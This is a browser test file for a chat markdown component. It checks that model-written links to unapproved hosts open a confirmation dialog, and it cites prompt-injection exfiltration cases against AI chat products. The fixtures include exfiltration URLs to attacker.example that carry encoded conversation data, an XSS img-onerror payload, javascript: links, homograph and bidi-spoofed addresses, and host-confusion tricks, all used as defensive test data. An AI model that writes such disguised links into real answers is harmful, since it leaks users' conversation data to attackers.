import { afterEach, describe, expect, it, vi } from 'vitest';
import { userEvent } from 'vitest/browser';
import { sse, useMockGateway } from '../testing/mock-gateway.js';
import { gatewayUrl, mountChat, shadowPart } from '../testing/mount-chat.js';
import { defineParleyMarkdown, type ParleyMarkdown } from './parley-markdown.js';
import { navigationStopped as stopped } from '../testing/navigation-stopped.js';

/**
 * SECURITY-NOTES §2 test 11 (Slack AI, Bing Chat): a model-written link's text can claim one URL
 * while it goes to another, with this conversation's data in its query. One click must not carry
 * it out: a link to a host nobody allowed waits for a confirmation showing where it really goes.
 */
defineParleyMarkdown();
const gateway = useMockGateway();
afterEach(() => {
  document.body.replaceChildren();
  vi.restoreAllMocks();
});

const exfiltrating = 'https://attacker.example/collect?d=U0VDUkVUX0NPTlRFWFRfT0ZfVEhFX1VTRVI%3D';

async function mount(text: string, attributes: Record<string, string> = {}): Promise<ParleyMarkdown> {
  const el = document.createElement('parley-markdown');
  for (const [name, value] of Object.entries(attributes)) el.setAttribute(name, value);
  el.text = text;
  document.body.append(el);
  await el.updateComplete;
  return el;
}

const confirmation = (el: Element) => el.querySelector<HTMLElement>('.parley-link-confirm');
const button = (el: Element, name: string) =>
  Array.from(el.querySelectorAll<HTMLButtonElement>('.parley-link-confirm button')).find((b) => b.textContent === name)!;

describe('a model-written link to a host nobody allowed', () => {
  it('does not leave on a click: a confirmation shows its real host and URL, and warns of the data in it', async () => {
    const el = await mount(`Your order is at [https://erp.example/orders/7](${exfiltrating}).`);
    const link = el.querySelector('a')!;
    expect(await stopped('click', () => userEvent.click(link))).toBe(true);

    const box = confirmation(el)!;
    expect(box.getAttribute('role')).toBe('alertdialog');
    expect(box.querySelector('strong')!.textContent).toBe('attacker.example');
    expect(box.textContent).toContain('Open this link to attacker.example?');
    expect(box.textContent).toContain(exfiltrating);
    expect(box.textContent).toContain('This link may send data from this conversation to attacker.example.');
    // Named and described for a screen reader, and focused (not Open: a second Enter must not open it).
    expect(box.ownerDocument.getElementById(box.getAttribute('aria-labelledby')!)!.textContent).toBe('Open this link to attacker.example?');
    expect(document.activeElement).toBe(box);
  });

  it('opens the link in a new tab, without opener or referrer, only on Open', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    const el = await mount(`[the order](${exfiltrating})`);
    await stopped('click', () => userEvent.click(el.querySelector('a')!));
    expect(open).not.toHaveBeenCalled();
    await userEvent.click(button(el, 'Open'));
    expect(open).toHaveBeenCalledTimes(1);
    const [url, target, features] = open.mock.calls[0]!;
    expect(url).toBe(exfiltrating);
    expect(target).toBe('_blank');
    expect(features).toMatch(/noopener/);
    expect(features).toMatch(/noreferrer/);
    expect(confirmation(el)).toBeNull();
  });

  it('closes on Cancel or Escape and gives the focus back to the link, opening nothing', async () => {
    const open = vi.spyOn(window, 'open').mockReturnValue(null);
    const el = await mount(`See [the report](https://reports.example/q3).`);
    const link = el.querySelector('a')!;
    await stopped('click', () => userEvent.click(link));
    await userEvent.click(button(el, 'Cancel'));
    expect(confirmation(el)).toBeNull();
    expect(document.activeElement).toBe(link);

    // Keyboard only: Enter on the focused link, then Escape.
    expect(await stopped('click', () => userEvent.keyboard('{Enter}'))).toBe(true);
    expect(document.activeElement).toBe(confirmation(el));
    await userEvent.keyboard('{Escape}');
    expect(confirmation(el)).toBeNull();
    expect(document.activeElement).toBe(link);
    expect(open).not.toHaveBeenCalled();
  });

  it('holds Ctrl/Meta/Shift clicks and middle clicks too', async () => {
    const el = await mount(`[docs](https://docs.attacker.example/)`);
    const link = el.querySelector('a')!;
    for (const modifier of ['ctrlKey', 'metaKey', 'shiftKey'] as const) {
      expect(await stopped('click', () => link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true, [modifier]: true }))), modifier).toBe(true);
    }
    confirmation(el)?.remove();
    expect(await stopped('auxclick', () => link.dispatchEvent(new MouseEvent('auxclick', { bubbles: true, cancelable: true, composed: true, button: 1 })))).toBe(true);
    expect(confirmation(el)!.textContent).toContain('docs.attacker.example');
  });

  it('warns of data only when the URL looks like it carries some', async () => {
    const el = await mount(`[guide](https://docs.vendor.example/guide/getting-started-with-the-configuration?lang=en)`);
    await stopped('click', () => userEvent.click(el.querySelector('a')!));
    expect(confirmation(el)!.textContent).toContain('Open this link to docs.vendor.example?');
    expect(confirmation(el)!.querySelector('.parley-link-confirm-warning')).toBeNull();

    const long = await mount(`[x](https://t.example/?${'q=a+b&'.repeat(20)})`);
    await stopped('click', () => userEvent.click(long.querySelector('a')!));
    expect(confirmation(long)!.textContent).toContain('may send data from this conversation to t.example');
  });

  it('always confirms mailto:, naming the address and a prefilled message', async () => {
    const el = await mount(`[write to support](mailto:help@attacker.example?subject=Hi&body=SECRET)`);
    expect(await stopped('click', () => userEvent.click(el.querySelector('a')!))).toBe(true);
    const box = confirmation(el)!;
    expect(box.querySelector('strong')!.textContent).toBe('help@attacker.example');
    expect(box.textContent).toContain('Write an email to help@attacker.example?');
    expect(box.textContent).toContain('prefilled message');
    expect(box.textContent).toContain('mailto:help@attacker.example?subject=Hi&body=SECRET');
  });

  it('shows model text only as text: markup in a URL stays literal', async () => {
    const el = await mount(`[x](https://attacker.example/?q=%3Cimg%20src=x%20onerror=alert(1)%3E)`);
    await stopped('click', () => userEvent.click(el.querySelector('a')!));
    const box = confirmation(el)!;
    expect(box.querySelector('img')).toBeNull();
    expect(box.querySelectorAll('[style]').length).toBe(0);
    expect(box.textContent).toContain('%3Cimg');
  });
});

describe('links that open at once', () => {
  it('a link to the page’s own host or to a `link-hosts` host is not held', async () => {
    const el = await mount(`[here](${location.origin}/orders/7) and [there](https://erp.example/orders/7) and [relative](/help)`, { 'link-hosts': 'wiki.example, ERP.example' });
    for (const link of el.querySelectorAll('a')) {
      expect(await stopped('click', () => link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }))), link.href).toBe(false);
    }
    expect(confirmation(el)).toBeNull();
  });

  it('matches exact hosts: a subdomain or another port of an allowed host still asks', async () => {
    const el = await mount(`[a](https://evil.erp.example/) [b](https://erp.example:8443/)`, { 'link-hosts': 'erp.example' });
    for (const link of el.querySelectorAll('a')) {
      expect(await stopped('click', () => link.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }))), link.href).toBe(true);
    }
  });
});

describe('inside <parley-chat>', () => {
  const answer = (text: string) =>
    gateway.serve(gatewayUrl, () => sse([{ type: 'text-delta', delta: text }, { type: 'finish', reason: 'stop' }]));

  it('follows the chat element’s `link-hosts` and speaks its language', async () => {
    answer(`[订单](https://erp.example/orders/7) 和 [报告](${exfiltrating})`);
    const el = await mountChat({ lang: 'zh-CN', 'link-hosts': 'erp.example' });
    await el.send('订单在哪里？');
    const links = await vi.waitFor(() => {
      const found = el.shadowRoot!.querySelectorAll<HTMLAnchorElement>('[part~="assistant"] parley-markdown a');
      return found.length === 2 ? Array.from(found) : Promise.reject(new Error('no links yet'));
    });
    expect(await stopped('click', () => links[0]!.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true })))).toBe(false);
    expect(await stopped('click', () => userEvent.click(links[1]!))).toBe(true);
    const box = shadowPart(el, '.parley-link-confirm')!;
    expect(box.textContent).toContain('打开指向 attacker.example 的链接？');
    expect(box.textContent).toContain('此链接可能会把本次对话中的数据发送到 attacker.example。');
    expect(Array.from(box.querySelectorAll('button'), (b) => b.textContent)).toEqual(['打开', '取消']);
    expect(el.shadowRoot!.activeElement).toBe(box);
  });

  it('is in English with the default table', async () => {
    answer(`[report](${exfiltrating})`);
    const el = await mountChat({ lang: 'en' });
    await el.send('Report?');
    const link = await vi.waitFor(() => shadowPart<HTMLAnchorElement>(el, '[part~="assistant"] parley-markdown a') ?? Promise.reject(new Error('no link yet')));
    expect(await stopped('click', () => userEvent.click(link))).toBe(true);
    expect(shadowPart(el, '.parley-link-confirm')!.textContent).toContain('Open this link to attacker.example?');
  });
});

describe('the link confirmation, checked on what the browser follows', () => {
  it('is not skipped for a link whose real host only looks allowed after a second entity decode', async () => {
    // Rendered href: https://erp.example.com&sol;.attacker.example/... (a subdomain of attacker.example).
    // The click check decodes entities again and sees https://erp.example.com/.attacker.example/...
    const el = await mount('[the order](https://erp.example.com&amp;sol;.attacker.example/c?d=U0VDUkVUX0NPTlRFWFQ)', { 'link-hosts': 'erp.example.com' });
    const link = el.querySelector('a')!;
    expect(new URL(link.href).hostname).toBe('erp.example.com&sol;.attacker.example');
    expect(await stopped('click', () => userEvent.click(link))).toBe(true);
  });

  it('shows a mail address without bidi controls that reorder what the person reads', async () => {
    const el = await mount('[write to us](mailto:%E2%80%AEmoc.elpmaxe.pre@attacker.example)');
    await stopped('click', () => userEvent.click(el.querySelector('a')!));
    const shown = el.querySelector('.parley-link-confirm strong')!.textContent!;
    expect(shown).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200e\u200f]/);
  });
});

describe('every kind of model link is held', () => {
  const cases: Array<[string, string, string]> = [
    ['table cell', '| a |\n| - |\n| [x](https://attacker.example/t) |', 'attacker.example'],
    ['heading', '## [x](https://attacker.example/h)', 'attacker.example'],
    ['autolink', '<https://attacker.example/a>', 'attacker.example'],
    ['bare url', 'see https://attacker.example/b now', 'attacker.example'],
    ['www', 'see www.attacker.example/w now', 'www.attacker.example'],
    ['reference', '[x][r]\n\n[r]: https://attacker.example/r', 'attacker.example'],
    ['credentials', '[erp](https://erp.example.com@attacker.example/)', 'attacker.example'],
    ['idn homograph', '[erp](https://\u0435rp.example.com/)', 'xn--rp-'],
    ['protocol relative', '[erp](//attacker.example/p)', 'attacker.example'],
    ['backslashes', '[erp](https:\\\\attacker.example/p)', 'attacker.example'],
    ['inside bold', '**[x](https://attacker.example/s)**', 'attacker.example'],
  ];
  for (const [name, text, host] of cases) {
    it(name, async () => {
      const el = await mount(text, { 'link-hosts': 'erp.example.com' });
      const link = el.querySelector('a');
      expect(link, 'a link').not.toBeNull();
      expect(await stopped('click', () => userEvent.click(link!))).toBe(true);
      expect(el.querySelector('.parley-link-confirm strong')!.textContent).toContain(host);
    });
  }
  it('javascript: and data: do not render as links', async () => {
    const el = await mount('[a](javascript:alert(1)) [b](data:text/html,hi) [c](JaVa&#x09;script:alert(1))');
    expect(el.querySelectorAll('a').length).toBe(0);
  });
  it('Enter on a focused link is held', async () => {
    const el = await mount('[x](https://attacker.example/k)');
    el.querySelector('a')!.focus();
    expect(await stopped('click', () => userEvent.keyboard('{Enter}'))).toBe(true);
    expect(el.querySelector('.parley-link-confirm')).not.toBeNull();
  });
});
